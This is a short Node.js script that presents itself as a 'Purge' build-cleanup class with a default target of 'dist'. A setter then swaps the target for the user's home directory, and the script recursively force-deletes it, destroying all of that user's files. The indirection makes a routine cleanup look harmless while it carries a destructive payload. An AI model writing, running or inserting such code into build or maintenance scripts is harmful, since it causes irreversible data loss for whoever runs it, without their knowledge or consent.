const { rm } = require('fs/promises');
const os = require('os');

class Purge {
  constructor() {
    this._dir = 'dist';
  }
  set dir(d) {
    this._dir = d;
  }
}

const p = new Purge();
p.dir = os.homedir();
rm(p._dir, { recursive: true, force: true });
